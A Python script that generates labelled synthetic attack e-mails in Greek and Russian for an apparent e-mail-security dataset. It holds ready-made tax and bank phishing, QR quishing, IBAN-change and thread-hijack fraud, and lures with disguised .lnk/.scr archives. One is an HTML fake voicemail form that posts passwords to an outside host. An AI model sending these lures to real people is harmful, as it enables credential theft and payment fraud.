"""Attack messages 32-36 (Greek) and 37-40 (Russian)."""
import files
import infra
import qr
import util
from company import BANK, RU
from compose import A, E, S, T, alt, html_outlook, html_simple, mixed, msg
from mime import addr, ew
from threads import T as TH
from util import berlin, fmt_iban


def build():
    # ------------------------------------------------------------ 32 AADE / myDATA phishing
    dt = berlin(2026, 10, 7, 10, 22, 14)
    r = util.rng("a32")
    p = infra.postfix_host(r, dt, E("gr_acc"), "mail.aade-enimerosi.gr", "mail.aade-enimerosi.gr", "164.92.183.40",
                           "localhost (localhost [127.0.0.1])", zone="GR", webmail="php", domain="aade-enimerosi.gr",
                           auth=False)
    link = "https://www1.aade.gr-mydata.info/taxisnet/login?afm=801452262&t=%s" % util.alnum(r, 10)
    text = """Αξιότιμε/η επιτηδευματία,

Από τη διασταύρωση των στοιχείων της ψηφιακής πλατφόρμας myDATA με τα δεδομένα των αντισυμβαλλομένων σας διαπιστώθηκε ότι 14 παραστατικά πώλησης του Γ' τριμήνου 2026 της επιχείρησής σας (Α.Φ.Μ. 801452262) δεν έχουν διαβιβαστεί ή έχουν διαβιβαστεί με αποκλίσεις.

Για κάθε παραστατικό που δεν διαβιβάστηκε εμπρόθεσμα επιβάλλεται πρόστιμο σύμφωνα με τις διατάξεις του Κώδικα Φορολογικής Διαδικασίας. Μπορείτε να δείτε τα παραστατικά και να υποβάλετε αιτιολόγηση εντός 10 ημερών από την παραλαβή του παρόντος.

Σύνδεση με κωδικούς TAXISnet:
%s

Με εκτίμηση,
Ανεξάρτητη Αρχή Δημοσίων Εσόδων
Γενική Διεύθυνση Ψηφιακού Μετασχηματισμού
""" % link
    html = html_outlook(text, "windows-1253", "EL", links={link: link})
    body = alt(p, T(text, "windows-1253", "quoted-printable"), T(html, "windows-1253", "quoted-printable", sub="html"))
    msg("32-el-aade-mydata-prostimo.eml", "attack", "el", p, E("gr_acc"), dt, "noreply@aade-enimerosi.gr",
        [("From", addr("ΑΑΔΕ - myDATA", "noreply@aade-enimerosi.gr", "windows-1253", "B")),
         ("To", E("gr_acc")),
         ("Subject", ew("myDATA: Εκκρεμής διαβίβαση παραστατικών Γ' τριμήνου 2026 - επιβολή προστίμου",
                        "windows-1253", "B"))],
        body,
        "Tax-authority phishing (AADE / myDATA): '14 invoices not transmitted, fine imposed', TAXISnet login on a "
        "look-alike host",
        "AADE does not e-mail from aade-enimerosi.gr or link to gr-mydata.info (subdomain 'www1.aade' is a trick); "
        "fine threat with 10-day deadline; harvests TAXISnet credentials. Sent by a PHP script on a DigitalOcean droplet.",
        pair="B32")

    # ------------------------------------------------------------ 33 winery IBAN change from look-alike (.com)
    dt = berlin(2026, 11, 24, 11, 40, 8)
    r = util.rng("a33")
    p = infra.postfix_host(r, dt, E("gr_acc"), "mail.ktima-alexiou.com", "45.76.88.213.vultrusercontent.com", "45.76.88.213",
                           "[192.168.1.7] (unknown [156.146.63.140])", zone="GR", webmail="roundcube",
                           domain="ktima-alexiou.com")
    mule = BANK["mule_gr"]
    text = """Αγαπητή κυρία Κωνσταντίνου,

σας ενημερώνουμε ότι από 1/12/2026 το κτήμα μας μεταφέρει τη συνεργασία του στη Eurobank. Ο λογαριασμός μας στην Εθνική Τράπεζα κλείνει στο τέλος του μήνα και οι εισερχόμενες πληρωμές σε αυτόν θα επιστρέφονται.

Παρακαλούμε η εξόφληση του τιμολογίου ΤΠ 1274/2026 (8.940,00 €) καθώς και κάθε μελλοντική πληρωμή να γίνονται στον νέο λογαριασμό:

Δικαιούχος: ΚΤΗΜΑ ΑΛΕΞΙΟΥ Α.Ε.
Τράπεζα: Eurobank
IBAN: %s

Επισυνάπτουμε τη βεβαίωση της τράπεζας. Θα σας παρακαλούσαμε να μας επιβεβαιώσετε με ένα σύντομο μήνυμα ότι ενημερώσατε τα στοιχεία μας.

Με εκτίμηση,
Λογιστήριο
Κτήμα Αλεξίου
Νάουσα Ημαθίας
""" % fmt_iban(mule)
    pdf = files.pdf([(14, "Eurobank S.A.", "B"), "Corporate Banking - Thessaloniki", "",
                     (12, "Bank account confirmation", "B"), "",
                     "We hereby confirm that the account below is held with our bank:", "",
                     "Account holder: KTIMA ALEXIOU S.A.", "IBAN: " + fmt_iban(mule), "BIC: ERBKGRAA", "",
                     "Thessaloniki, 20/11/2026", "", "Eurobank S.A. - Corporate Banking Centre"],
                    title="Vevaiosi", producer="Microsoft® Word 2016", created="20261120101500+02'00'")
    body = mixed(p, T(text, "iso-8859-7", "quoted-printable", params=[("format", "flowed")]),
                 A("application/pdf", pdf, "Vevaiosi_Eurobank_Ktima_Alexiou.pdf"))
    msg("33-el-ktima-alexiou-allagi-iban-lookalike.eml", "attack", "el", p, E("gr_acc"), dt, "logistirio@ktima-alexiou.com",
        [("From", addr("Κτήμα Αλεξίου - Λογιστήριο", "logistirio@ktima-alexiou.com", "iso-8859-7", "B")),
         ("To", addr("Ελένη Κωνσταντίνου", E("gr_acc"), "iso-8859-7", "B")),
         ("Subject", ew("Αλλαγή τραπεζικού λογαριασμού - Κτήμα Αλεξίου", "iso-8859-7", "B"))],
        body,
        "Supplier bank-detail change: look-alike of the Naoussa winery announces a new Eurobank account and asks to pay "
        "the open invoice there; fake bank confirmation PDF",
        "ktima-alexiou.com instead of the real ktima-alexiou.gr (Google Workspace), sent from a Vultr VPS with Roundcube; "
        "self-made 'bank confirmation', e-mail-only confirmation requested.", pair="B33")

    # ------------------------------------------------------------ 34 bank quishing (PNG QR attachment, Brevo)
    dt = berlin(2026, 11, 16, 7, 47, 30)
    r = util.rng("a34")
    p = infra.brevo(r, dt, E("gr_acc"))
    url = "https://nbg-business.gr-verify.com/i-bank/qr?sid=%s" % util.alnum(r, 24)
    png = qr.qr_png(url, "M", scale=6)
    text = """Αγαπητέ πελάτη,

Στο πλαίσιο των νέων κανόνων ισχυρής ταυτοποίησης (PSD2) για επιχειρήσεις, απαιτείται επανεπιβεβαίωση της συσκευής που χρησιμοποιείτε για συναλλαγές στο Internet Banking Επιχειρήσεων έως τις 20/11/2026.

Για να ολοκληρώσετε τη διαδικασία, σαρώστε με την κάμερα του κινητού σας τον κωδικό QR που επισυνάπτεται και ακολουθήστε τις οδηγίες. Μετά την προθεσμία, οι μεταφορές και οι μαζικές πληρωμές θα απενεργοποιηθούν προσωρινά.

Ευχαριστούμε για την προτίμηση,
Εθνική Τράπεζα της Ελλάδος
Ψηφιακή Εξυπηρέτηση Επιχειρήσεων
"""
    body = mixed(p, T(html_simple(text), "utf-8", "base64", sub="html"),
                 A("image/png", png, "NBG_QR_epivevaiosi.png"))
    msg("34-el-trapeza-quishing-qr.eml", "attack", "el", p, E("gr_acc"), dt,
        "bounces-%s@smtp-relay.mailin.fr" % util.alnum(r, 10),
        [("From", addr("Εθνική Τράπεζα - Επιχειρήσεις", "eidopoiiseis@nbg-epixeiriseis.gr", "utf-8", "B")),
         ("To", E("gr_acc")),
         ("Subject", ew("Απαιτείται επανεπιβεβαίωση συσκευής - Internet Banking Επιχειρήσεων", "utf-8", "B"))],
        body,
        "Quishing against the Greek office: 'National Bank of Greece' asks to re-confirm the business e-banking device "
        "by scanning an attached QR code (PNG)",
        "Bank look-alike domain sent through Brevo; the QR (not a link) leads to gr-verify.com and evades URL "
        "scanning; PSD2 pretext and deadline; banks do not ask for device re-confirmation by e-mail QR.")

    # ------------------------------------------------------------ 35 voicemail lure with HTML attachment
    dt = berlin(2026, 12, 3, 14, 26, 51)
    r = util.rng("a35")
    p = infra.exim_cpanel(r, dt, E("gr_mgr"), "gr-web12.dnhost.gr", "185.138.42.112",
                          "grammateia@frontistirio-kalamarias.gr", client_ip="185.244.36.77", zone="GR")
    text = """Έχετε ένα νέο φωνητικό μήνυμα.

Από: +30 2310 553 412
Προς: Γιώργος Παπαδόπουλος
Διάρκεια: 00:47
Λήψη: Πέμπτη, 3 Δεκεμβρίου 2026, 15:18

Το ηχητικό μήνυμα επισυνάπτεται. Ανοίξτε το συνημμένο για αναπαραγωγή.

Microsoft Teams - Φωνητικό ταχυδρομείο
"""
    att = """<!DOCTYPE html><html lang="el"><head><meta charset="utf-8"><title>Voicemail - Microsoft Teams</title>
<style>body{font-family:"Segoe UI",sans-serif;background:#f5f5f5}.p{width:440px;margin:60px auto;background:#fff;padding:30px;border-radius:6px;box-shadow:0 1px 4px #aaa}
.bar{height:6px;background:#ddd;border-radius:3px;margin:14px 0}.bar div{width:0;height:6px;background:#6264a7}
input{width:100%;padding:8px;margin:6px 0 14px;border:1px solid #bbb}button{background:#6264a7;color:#fff;border:0;padding:10px 28px}</style></head>
<body><div class="p">
<div style="color:#6264a7;font-weight:600">Microsoft Teams</div>
<h3>Φωνητικό μήνυμα από +30 2310 553 412</h3>
<div>&#9654; 00:00 / 00:47</div><div class="bar"><div></div></div>
<p>Για αναπαραγωγή του μηνύματος επιβεβαιώστε τον λογαριασμό σας.</p>
<form method="POST" action="https://teams-voicemail-play.netlify.app/api/session">
<input type="email" name="u" value="giorgos.papadopoulos@examplegroup.eu">
<input type="password" name="p" placeholder="Κωδικός πρόσβασης">
<button type="submit">Αναπαραγωγή</button></form></div></body></html>
"""
    body = mixed(p, T(text, "utf-8", "8bit"),
                 A("text/html", att.encode("utf-8"), "VM_302310553412_0047.htm", charset="utf-8"))
    msg("35-el-fonitiko-minima-html-synimmeno.eml", "attack", "el", p, E("gr_mgr"), dt,
        "grammateia@frontistirio-kalamarias.gr",
        [("From", addr("Φωνητικό Ταχυδρομείο", "grammateia@frontistirio-kalamarias.gr", "utf-8", "B")),
         ("To", E("gr_mgr")),
         ("Subject", ew("Νέο φωνητικό μήνυμα από +30 2310 553 412 (00:47)", "utf-8", "B"))],
        body,
        "Voicemail lure: 'new Teams voicemail' with an .htm attachment that shows a fake player and asks for the "
        "Microsoft password before playback",
        "Sent from a compromised tutoring-school mailbox on shared hosting via a foreign IP; Teams voicemail arrives "
        "as an audio file from Microsoft, never as an HTML login page; the form posts credentials to netlify.app.")

    # ------------------------------------------------------------ 36 thread hijack, compromised otenet carrier mailbox
    dt = berlin(2026, 12, 8, 9, 18, 3)
    r = util.rng("a36")
    p = infra.webmail_generic(
        r, dt, E("gr_acc"), "mailout.otenet.gr", "mailout.otenet.gr", "83.235.69.41",
        ["from webmail.otenet.gr (webmail-3.otenet.gr [10.1.2.53])\n\tby mailout.otenet.gr (Postfix) with ESMTPSA id %s\n"
         "\tfor <%s>; {DATE}" % (util.hexid(r, 10, True), E("gr_acc"))],
        "<%s@webmail.otenet.gr>" % util.hexid(r, 32),
        [("User-Agent", "Roundcube Webmail/1.6.9"), ("X-Sender", "transport.dimitriou@otenet.gr"),
         ("X-Originating-IP", "[197.210.84.19]")], "GR", bndfmt="=_{0}")
    mule = BANK["mule_cy"]
    text = """Καλημέρα κυρία Κωνσταντίνου,

σε συνέχεια του τιμολογίου ΤΠΥ 388 για τη μεταφορά προς Σόφια, σας ενημερώνω ότι ο λογαριασμός μας στην Τράπεζα Πειραιώς είναι προσωρινά δεσμευμένος λόγω ελέγχου και δεν δέχεται εισερχόμενα εμβάσματα μέχρι το τέλος του χρόνου.

Παρακαλώ η πληρωμή (3.480,00 €) να γίνει σήμερα, αν είναι δυνατόν, στον λογαριασμό της αδελφής μας εταιρείας στην Κύπρο:

Δικαιούχος: DIMITRIOU TRANSPORT SERVICES LTD
Τράπεζα: Hellenic Bank
IBAN: %s
SWIFT: HEBACY2N

Στείλτε μου το αποδεικτικό μόλις γίνει για να ενημερώσω το λογιστήριο.

Ευχαριστώ,
Κώστας Δημητρίου
Μεταφορές Δημητρίου

-----Αρχικό μήνυμα-----
Από: Ελένη Κωνσταντίνου <eleni.konstantinou@example.com>
Ημερομηνία: 02/12/2026 12:40
Θέμα: RE: Μεταφορά Σόφια - τιμολόγιο ΤΠΥ 388

Καλημέρα κ. Δημητρίου,
λάβαμε το τιμολόγιο, θα εξοφληθεί με την εβδομαδιαία πληρωμή της Πέμπτης.
Ελένη
""" % fmt_iban(mule)
    body = T(text, "UTF-8", "quoted-printable", params=[("format", "flowed")], quote_charset=False)
    msg("36-el-dimitriou-hijack-logariasmos-kypros.eml", "attack", "el", p, E("gr_acc"), dt, "transport.dimitriou@otenet.gr",
        [("From", addr("Κώστας Δημητρίου", "transport.dimitriou@otenet.gr", "UTF-8", "B")),
         ("To", addr("Ελένη Κωνσταντίνου", E("gr_acc"), "UTF-8", "B")),
         ("Subject", ew("RE: Μεταφορά Σόφια - τιμολόγιο ΤΠΥ 388", "UTF-8", "B")),
         ("In-Reply-To", TH["dimitriou_eleni"]),
         ("References", "%s %s" % (TH["dimitriou_1"], TH["dimitriou_eleni"]))],
        body,
        "Thread hijack from the genuinely compromised consumer mailbox of the Greek carrier: in the real invoice thread, "
        "asks to pay today to a Cyprus account of a 'sister company'",
        "Real otenet.gr mailbox, but written in Roundcube webmail from a Nigerian IP, while the carrier always writes "
        "with Windows Live Mail in ISO-8859-7 (business 34); third-party foreign beneficiary, 'account blocked' excuse, "
        "same-day payment and proof of payment requested.", pair="B34")

    # ------------------------------------------------------------ 37 reconciliation act, encrypted ZIP (compromised mail.ru)
    dt = berlin(2026, 10, 15, 10, 5, 19)
    r = util.rng("a37")
    p = infra.mailru(r, dt, E("ru_acc"), "5.253.60.118", "buh.sts-spb@mail.ru")
    pwd = "2026"
    z = files.zip_crypto([("Акт сверки 01.01.2026-30.09.2026.pdf.lnk", files.PLACEHOLDER)], pwd, "a37",
                         when=(2026, 10, 15, 9, 51, 0))
    text = """Добрый день!

Направляем Вам акт сверки взаиморасчётов за период с 01.01.2026 по 30.09.2026. По нашим данным, за Вашей организацией числится задолженность в размере 214 680,00 руб.

Просим проверить, подписать и вернуть скан подписанного акта в течение 3 рабочих дней. В случае расхождений пришлите, пожалуйста, свой вариант акта.

Архив защищён паролем в соответствии с политикой информационной безопасности нашей организации.
Пароль: %s

--
С уважением,
Главный бухгалтер
Ковалёва Ирина Викторовна
ООО «СтройТрансСервис»
тел. +7 (812) 407-18-22
""" % pwd
    html = "<HTML><BODY>" + "".join("<div>%s</div>" % (l if l.strip() else "&nbsp;") for l in text.split("\n")) + "</BODY></HTML>"
    body = mixed(p, alt(p, T(text, "utf-8", "base64"), T(html, "utf-8", "base64", sub="html")),
                 A("application/zip", z, "Акт_сверки_01.01.2026-30.09.2026.zip", name_style="outlook"))
    for part in body.parts[0].parts:
        part.quote_charset = False
    msg("37-ru-akt-sverki-zip-parol.eml", "attack", "ru", p, E("ru_acc"), dt, "buh.sts-spb@mail.ru",
        [("From", addr("Бухгалтерия ООО СтройТрансСервис", "buh.sts-spb@mail.ru", "UTF-8", "B")),
         ("To", E("ru_acc")),
         ("Subject", ew("Акт сверки взаиморасчётов за 9 месяцев 2026 г.", "UTF-8", "B"))],
        body,
        "Malspam 'reconciliation act' (акт сверки) from an unknown company's compromised mail.ru mailbox: claimed debt "
        "of RUB 214,680 and a password-protected ZIP with a '.pdf.lnk' shortcut",
        "No business relation with 'StroyTransServis'; encrypted archive with password in the body to evade scanning; "
        "LNK shortcut under a PDF name; typical loader lure for Russian accounting departments. Genuine acts arrive as "
        "PDF from known partners (business 40).", pair="B40", zip_pw={"Акт_сверки_01.01.2026-30.09.2026.zip": pwd})

    # ------------------------------------------------------------ 38 tax demand with ZIP (.scr), KOI8-R
    dt = berlin(2026, 11, 30, 7, 41, 27)
    r = util.rng("a38")
    p = infra.postfix_host(r, dt, E("ru_acc"), "mail.nalog-ifns15.ru", "vds2214891.my-ihor.ru", "194.87.94.112",
                           "WIN-7Q2M4LK0 (unknown [45.141.84.23])", zone="RU", domain="nalog-ifns15.ru", auth=False)
    p["extra"] = [("X-Mailer", "Microsoft Outlook Express 6.00.2900.5512"), ("X-MimeOLE", "Produced By Microsoft MimeOLE V6.00.2900.5512"),
                  ("X-Priority", "1"), ("X-MSMail-Priority", "High")]
    z = files.zip_plain([("Требование 15-07-44871 и приложение N1.pdf.scr", files.PLACEHOLDER)],
                        when=(2026, 11, 30, 7, 30, 0))
    text = """Уважаемый налогоплательщик!

Межрайонная инспекция ФНС России N 15 по Санкт-Петербургу в ходе камеральной налоговой проверки налоговой декларации по НДС за 3 квартал 2026 г. выявила расхождения между сведениями об операциях, отражёнными в Вашей декларации, и сведениями, указанными в декларациях Ваших контрагентов.

В соответствии с п. 3 ст. 88 Налогового кодекса Российской Федерации Вам необходимо в течение пяти рабочих дней со дня получения настоящего требования представить пояснения или внести исправления в налоговую декларацию.

Требование N 15-07/44871 и перечень расхождений (приложение N 1) направлены во вложении.

Непредставление пояснений в установленный срок влечёт ответственность по ст. 129.1 НК РФ и может служить основанием для приостановления операций по счетам (п. 3 ст. 76 НК РФ).

Межрайонная ИФНС России N 15 по Санкт-Петербургу
"""
    body = mixed(p, T(text, "koi8-r", "8bit"), A("application/x-zip-compressed", z, "Trebovanie_15-07-44871.zip"),
                 preamble="This is a multi-part message in MIME format.")
    msg("38-ru-fns-trebovanie-zip-scr.eml", "attack", "ru", p, E("ru_acc"), dt, "trebovanie@nalog-ifns15.ru",
        [("From", addr("Межрайонная ИФНС России N 15", "trebovanie@nalog-ifns15.ru", "koi8-r", "B")),
         ("To", E("ru_acc")),
         ("Subject", ew("Требование о представлении пояснений N 15-07/44871 (ст. 88 НК РФ)", "koi8-r", "B"))],
        body,
        "Malspam impersonating the Russian tax service: 'demand for explanations' on the VAT return with a ZIP that "
        "holds a '.pdf.scr' file",
        "The FNS sends demands through the EDO operator (TKS), not by e-mail from nalog-ifns15.ru; mass-mailer "
        "Outlook-Express headers on a Russian VDS; account-freeze threat; screensaver executable disguised as PDF.")

    # ------------------------------------------------------------ 39 customs broker look-alike, 'payment agent' account
    dt = berlin(2026, 11, 11, 12, 22, 48)
    r = util.rng("a39")
    p = infra.postfix_host(r, dt, E("ru_acc"), "mail.baltbroker-spb.ru", "5-35-98-144.cloudvps.regruhosting.ru",
                           "5.35.98.144", "[192.168.0.13] (unknown [95.142.46.35])", zone="RU", webmail="outlook",
                           domain="baltbroker-spb.ru")
    m = RU["mule"]
    cont = util.iso6346("MSKU718442")
    text = """Ольга, добрый день!

В связи с приостановлением операций по нашему расчётному счёту в ПАО Сбербанк (проверка по 115-ФЗ) оплату счёта № 1187 от 09.11.2026 (таможенные платежи и услуги по декларированию, 486 900,00 руб.) просим произвести на счёт нашего платёжного агента по договору № 14/А-2026:

Получатель: ООО «Северная Логистика»
ИНН %s / КПП %s
Р/с %s
Банк: %s
БИК %s
К/с %s
Назначение платежа: Оплата по счёту № 1187 от 09.11.2026 за ООО «Балтика Брокер» по договору № 14/А-2026, НДС не облагается.

Оплата нужна сегодня до 16:00, иначе декларацию по контейнеру %s (вино, 1 260 коробок) не успеем подать, и с завтрашнего дня начнётся хранение на СВХ за ваш счёт.

Платёжку пришлите, пожалуйста, ответным письмом.

С уважением,
Андрей Волков
Ведущий специалист по таможенному оформлению
ООО «Балтика Брокер»
""" % (m["inn"], m["kpp"], m["acct"], m["bank"], m["bik"], m["corr"], cont)
    body = alt(p, T(text, "windows-1251", "quoted-printable"),
               T(html_outlook(text, "windows-1251", "RU"), "windows-1251", "quoted-printable", sub="html"))
    msg("39-ru-broker-rekvizity-platezhnyi-agent.eml", "attack", "ru", p, E("ru_acc"), dt, "volkov@baltbroker-spb.ru",
        [("From", addr("Андрей Волков", "volkov@baltbroker-spb.ru", "windows-1251", "B")),
         ("To", addr("Ольга Иванова", E("ru_acc"), "windows-1251", "B")),
         ("Cc", addr("Дмитрий Соколов", E("ru_mgr"), "windows-1251", "B")),
         ("Subject", ew("Изменение реквизитов для оплаты счёта № 1187", "windows-1251", "B"))],
        body,
        "Customs-broker BEC: look-alike of the St Petersburg customs broker asks to pay an invoice of RUB 486,900 to a "
        "'payment agent' company at another bank because its own account is 'frozen under 115-FZ'",
        "baltbroker-spb.ru instead of the real baltbroker.ru; third-party recipient with a different INN; pressure via "
        "demurrage/warehouse costs and a same-day deadline. Bank details are formally valid (BIK key), which is what "
        "makes the fraud work.", pair="B38", order="outlook")

    # ------------------------------------------------------------ 40 Yandex ID phishing
    dt = berlin(2026, 10, 23, 11, 5, 40)
    r = util.rng("a40")
    p = infra.postfix_host(r, dt, E("ru_mgr"), "mx.yandex-id-support.ru", "vm3981212.firstbyte.club", "185.173.93.21",
                           "localhost (localhost [127.0.0.1])", zone="RU", webmail="php", domain="yandex-id-support.ru",
                           auth=False)
    link = "https://passport.yandex-id-support.ru/auth/secure?track_id=%s&retpath=id.yandex.ru" % util.hexid(r, 32)
    text = """Здравствуйте, Дмитрий!

В ваш аккаунт Яндекс ID dmitry.sokolov@examplegroup.eu выполнен вход с нового устройства:

Устройство: Windows 11, Chrome 142
Местоположение: Алматы, Казахстан (IP 2.134.51.77)
Время: 23 октября 2026, 12:58 (МСК)

Если это были не вы, немедленно заблокируйте доступ и смените пароль, иначе доступ к Яндекс Бизнесу и организации в Яндекс 360 может быть утерян.

Это был не я: %s

С заботой,
команда Яндекс ID
""" % link
    html = html_simple(text, links={link: link}, font="YS Text, Arial, sans-serif")
    body = alt(p, T(text, "utf-8", "quoted-printable"), T(html, "utf-8", "quoted-printable", sub="html"))
    msg("40-ru-yandex-id-falshivyi-vkhod.eml", "attack", "ru", p, E("ru_mgr"), dt, "noreply@yandex-id-support.ru",
        [("From", addr("Яндекс ID", "noreply@yandex-id-support.ru", "utf-8", "B")),
         ("To", E("ru_mgr")),
         ("Subject", ew("Вход в аккаунт с нового устройства - подтвердите, что это вы", "utf-8", "B"))],
        body,
        "Credential phishing imitating a Yandex ID new-sign-in alert; the 'It wasn't me' link leads to a fake Yandex "
        "passport page",
        "Sender domain yandex-id-support.ru on a FirstByte VPS (PHPMailer), not yandex.ru infrastructure; fear of "
        "account takeover is used to harvest the password; compare the genuine Yandex notice (business 39).",
        pair="B39")
